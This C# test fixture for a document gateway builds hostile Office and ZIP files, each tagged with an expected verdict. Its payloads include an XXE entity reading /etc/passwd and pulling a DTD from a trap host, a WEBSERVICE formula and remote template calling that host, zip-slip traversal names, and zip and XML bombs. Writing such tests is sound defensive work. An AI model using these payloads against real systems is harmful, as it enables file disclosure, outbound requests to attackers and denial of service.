using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace Gateway.EndToEnd.Tests.Documents;

/// <summary>Office files and archives that burst, lie, or are something else.</summary>
internal static class HostilePackages
{
    private const string Word = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private const string Relations = "http://schemas.openxmlformats.org/package/2006/relationships";
    private const string Cells = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    public static IEnumerable<HostileFile> All(string trap)
    {
        var x = Paragraph("x");
        foreach (var file in Burst().Concat(Broken()).Concat(Sheets(trap)).Concat(Archives()))
        {
            yield return file;
        }
        yield return new(
            "ok/good.docx",
            Docx(Paragraph("plain GOODDOCX text")),
            Verdict.Allowed,
            "control",
            "GOODDOCX"
        );
        var entities =
            $"<!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"{trap}x.dtd\"> %p;]>";
        yield return Rejected("xxe", DocxOf(entities + Document(Paragraph("&x;"))), "an entity from elsewhere");
        yield return Rejected("laughs", DocxOf(HostileTexts.Laughs + Document(Paragraph("&j;"))), "a billion laughs");
        yield return Harmless("many_parts", Docx(x, Many(20_000)), "20,000 parts");
        yield return Harmless(
            "zipslip",
            Docx(Paragraph("ZIPSLIP"), [("../../../../evil.txt", "x"), ("/etc/evil", "x"), ("..\\..\\evil", "x")]),
            "names that lead away"
        );
        yield return new(
            "docx/remote_template.docx",
            Docx(
                Paragraph("TEMPLATE"),
                [
                    (
                        "word/_rels/document.xml.rels",
                        $"<Relationships xmlns=\"{Relations}\"><Relationship Id=\"r9\" Type=\"{Office}/attachedTemplate\" "
                            + $"Target=\"{trap}t.dotm\" TargetMode=\"External\"/></Relationships>"
                    ),
                ]
            ),
            Verdict.Allowed,
            "a template from elsewhere",
            "TEMPLATE"
        );
        yield return new(
            "docx/hidden_text.docx",
            Docx("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>HIDDENTEXT</w:t></w:r></w:p>" + Paragraph("VISIBLETEXT")),
            Verdict.Allowed,
            "text that no reader sees",
            "VISIBLETEXT"
        );
        yield return new(
            "docx/nested.zip",
            Nested(Docx(Paragraph(new string('x', 1_000_000))), 5),
            Verdict.Harmless,
            "archives in archives"
        );
    }

    private static IEnumerable<HostileFile> Burst()
    {
        yield return Rejected("zipbomb", Docx(Paragraph(new string('A', 120_000_000))), "120 MB of text");
        yield return Rejected(
            "deep_xml",
            DocxOf($"<w:document {Word}>{Repeat("<w:p>", 100_000)}{Repeat("</w:p>", 100_000)}</w:document>"),
            "elements in elements"
        );
        yield return Harmless("lying_size", Lying(Docx(Paragraph(new string('A', 100_000)))), "a size that is none");
    }

    private static IEnumerable<HostileFile> Broken()
    {
        yield return Rejected("truncated", Docx(Paragraph(new string('x', 50_000)))[..600], "it breaks off");
        yield return Rejected("empty", [], "no bytes");
        yield return Rejected("no_document", Package([("word/other.xml", Document(""))]), "its text is missing");
        yield return Rejected(
            "encrypted_ole",
            [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[4096]],
            "a password"
        );
        yield return Rejected("is_pdf", "%PDF-1.4\n%%EOF"u8.ToArray(), "another format");
        yield return Rejected("is_exe", [.. "MZ"u8, .. new byte[500]], "a program");
    }

    private static IEnumerable<HostileFile> Sheets(string trap)
    {
        yield return new(
            "xlsx/formula.xlsx",
            Xlsx($"<row r=\"1\"><c r=\"A1\" t=\"str\"><f>WEBSERVICE(\"{trap}\")</f><v>CACHED</v></c></row>"),
            Verdict.Allowed,
            "a formula is never run",
            "CACHED"
        );
        yield return new(
            "xlsx/far_cell.xlsx",
            Xlsx("<row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row>"),
            Verdict.Harmless,
            "one cell, far away"
        );
        yield return new(
            "xlsx/empty_rows.xlsx",
            Xlsx(string.Concat(Enumerable.Range(1, 1_048_576).Select(row => $"<row r=\"{row}\"/>"))),
            Verdict.Harmless,
            "a million empty rows"
        );
        yield return new(
            "xlsx/bad_ref.xlsx",
            Xlsx("<row r=\"1\"><c r=\"ZZZZZZ99999999999\" t=\"s\"><v>999999999</v></c></row>"),
            Verdict.Harmless,
            "places that are none"
        );
    }

    private static IEnumerable<HostileFile> Archives()
    {
        var text = Encoding.UTF8.GetBytes("ZIPNAMES");
        yield return new(
            "zip/names.zip",
            Zip(
                ((string[])["/etc/passwd", "../../a.txt", "..\\b.txt", "C:\\c.txt", "d\ne.txt", "same", "same"]).Select(
                    name => (name, text)
                )
            ),
            Verdict.Allowed,
            "names that lead away, and twice the same",
            "ZIPNAMES"
        );
        yield return new(
            "zip/bombs.zip",
            Zip(Enumerable.Range(0, 100).Select(number => ($"{number}.txt", new byte[1_000_000]))),
            Verdict.Harmless,
            "many that burst a little"
        );
        yield return new(
            "zip/bad_member.zip",
            Zip([
                ("bad.docx", DocxOf($"<w:document {Word}>{Repeat("<w:p>", 5000)}")),
                ("bad.pdf", "%PDF-1.4\n"u8.ToArray()),
                ("good.txt", Encoding.UTF8.GetBytes("GOODMEMBER")),
            ]),
            Verdict.Allowed,
            "one bad member costs no other",
            "GOODMEMBER"
        );
    }

    private static HostileFile Harmless(string name, byte[] bytes, string why) =>
        new($"docx/{name}.docx", bytes, Verdict.Harmless, why);

    private static HostileFile Rejected(string name, byte[] bytes, string why) =>
        new($"docx/{name}.docx", bytes, Verdict.Rejected, why);

    private static string Paragraph(string text) => $"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>";

    private static string Document(string body) => $"<w:document {Word}><w:body>{body}</w:body></w:document>";

    private static string Repeat(string text, int count) => new StringBuilder().Insert(0, text, count).ToString();

    private static IEnumerable<(string, string)> Many(int count) =>
        Enumerable.Range(0, count).Select(number => ($"word/p{number}.xml", "<a/>"));

    private static byte[] Docx(string body, IEnumerable<(string Name, string Text)>? more = null) =>
        Package([("word/document.xml", Document(body)), .. more ?? []]);

    private static byte[] DocxOf(string xml) => Package([("word/document.xml", xml)]);

    private static byte[] Xlsx(string rows) =>
        Package(
            [
                ("xl/worksheets/sheet1.xml", $"<worksheet xmlns=\"{Cells}\"><sheetData>{rows}</sheetData></worksheet>"),
                (
                    "xl/workbook.xml",
                    $"<workbook xmlns=\"{Cells}\" xmlns:r=\"{Office}\"><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>"
                ),
                (
                    "xl/_rels/workbook.xml.rels",
                    $"<Relationships xmlns=\"{Relations}\"><Relationship Id=\"r1\" Type=\"{Office}/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>"
                ),
            ],
            "xl/workbook.xml",
            "spreadsheetml.sheet"
        );

    private static byte[] Package(
        IEnumerable<(string Name, string Text)> parts,
        string main = "word/document.xml",
        string type = "wordprocessingml.document"
    )
    {
        const string types = "http://schemas.openxmlformats.org/package/2006/content-types";
        return Zip([
            (
                "[Content_Types].xml",
                Bytes(
                    $"<Types xmlns=\"{types}\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                        + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                        + $"<Override PartName=\"/{main}\" ContentType=\"application/vnd.openxmlformats-officedocument.{type}.main+xml\"/></Types>"
                )
            ),
            (
                "_rels/.rels",
                Bytes(
                    $"<Relationships xmlns=\"{Relations}\"><Relationship Id=\"r1\" Type=\"{Office}/officeDocument\" Target=\"{main}\"/></Relationships>"
                )
            ),
            .. parts.Select(part => (part.Name, Bytes(part.Text))),
        ]);
    }

    private static byte[] Bytes(string xml) => Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?>" + xml);

    private static byte[] Zip(IEnumerable<(string Name, byte[] Bytes)> entries)
    {
        using var packed = new MemoryStream();
        using (var archive = new ZipArchive(packed, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, bytes) in entries)
            {
                using var entry = archive.CreateEntry(name, CompressionLevel.Fastest).Open();
                entry.Write(bytes);
            }
        }
        return packed.ToArray();
    }

    private static byte[] Nested(byte[] inner, int depth)
    {
        for (; depth > 0; depth--)
        {
            var member = inner;
            inner = Zip(Enumerable.Range(0, 10).Select(number => ($"{number}.zip", member)));
        }
        return inner;
    }

    // The directory at the end says that each part has ten bytes.
    private static byte[] Lying(byte[] package)
    {
        var at = 0;
        while (package.AsSpan(at).IndexOf("PK\u0001\u0002"u8) is var next and >= 0)
        {
            at += next;
            BinaryPrimitives.WriteInt32LittleEndian(package.AsSpan(at + 24), 10);
            at += 4;
        }
        return package;
    }
}
